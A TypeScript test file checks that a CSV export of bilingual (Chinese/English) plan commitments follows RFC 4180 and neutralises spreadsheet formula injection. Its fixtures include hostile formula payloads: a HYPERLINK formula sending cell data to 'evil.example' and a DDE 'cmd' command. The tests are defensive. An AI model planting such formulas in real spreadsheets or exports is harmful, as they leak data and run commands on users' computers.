/** The CSV download: RFC 4180, and no cell a spreadsheet would run as a formula (OWASP, CSV injection). */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '#src/model/commitments-export.ts';
import { CSV_COLUMNS, type CommitmentRecord } from '#src/schemas/commitment-record.ts';

const record = (en: string, zh = '新建5G基站400个'): CommitmentRecord => ({
  id: 'x',
  road: 'road-a',
  initiative: null,
  paragraph: 1,
  zh,
  en,
  type: 'urban',
  status: 'announced',
  measures: [{ amount: '400个', value: 400, unit: 'count', counts: '5G base stations', unit_stated: true }],
  page_zh: 'https://example.org/zh/eight-roads/commitments/x/',
  page_en: 'https://example.org/en/eight-roads/commitments/x/',
  source_zh: 'https://example.org/zh/eight-roads/road-a/#p1',
  source_en: 'https://example.org/en/eight-roads/road-a/#p1',
  plan: 'eight-roads',
  reviewed: null,
});

const cellsOf = (csv: string) => {
  const [header, ...rows]: string[][] = parse(csv.slice(1));
  expect(header).toEqual(CSV_COLUMNS);
  return rows.map((row) => Object.fromEntries(header.map((column, i) => [column, row[i]])));
};

describe('toCsv', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('neutralises a cell that begins like a formula: %j', (hostile) => {
    const [row] = cellsOf(toCsv([record(hostile, hostile)]));
    expect(row.en).toBe(`'${hostile}`);
    expect(row.zh).toBe(`'${hostile}`);
  });

  it('leaves ordinary text, quotes and commas, and numbers as they are', () => {
    const [row] = cellsOf(toCsv([record('Build 400 new 5G base stations, “in full”, say "all"')]));
    expect(row.en).toBe('Build 400 new 5G base stations, “in full”, say "all"');
    expect(row.value).toBe('400');
    expect(row.initiative).toBe('');
    expect(row.zh).toBe('新建5G基站400个');
  });

  it('starts with a byte-order mark and ends rows with CRLF', () => {
    const csv = toCsv([record('a')]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('writes the same rows without the byte-order mark for data tools', () => {
    const records = [record('a')];
    expect(toCsv(records, 'data').charCodeAt(0)).not.toBe(0xfeff);
    expect(toCsv(records, 'spreadsheet')).toBe(`\uFEFF${toCsv(records, 'data')}`);
  });

  it('quotes every text cell and no number, so that a spreadsheet reading quoted fields as text keeps “100%” as written', () => {
    const percent = { ...record('Raise the rate to 100%'), measures: [{ amount: '100%', value: 100, unit: 'percent', counts: 'rate' }] };
    const [, row] = toCsv([percent as CommitmentRecord], 'data').split('\r\n');
    // The raw fields, split outside quotes: a quoted field is "…", a number bare, an empty cell empty.
    const fields = [...row.matchAll(/("(?:[^"]|"")*"|[^,"]*)(?:,|$)/gu)].map((match) => match[1]).slice(0, CSV_COLUMNS.length);
    const byColumn = Object.fromEntries(CSV_COLUMNS.map((column, index) => [column, fields[index]]));
    expect(byColumn.amount).toBe('"100%"');
    expect(byColumn.en).toBe('"Raise the rate to 100%"');
    expect(byColumn.value).toBe('100');
    expect(byColumn.measure).toBe('1');
    expect(byColumn.paragraph).toMatch(/^\d+$/u);
    expect(byColumn.initiative).toBe('');
  });
});
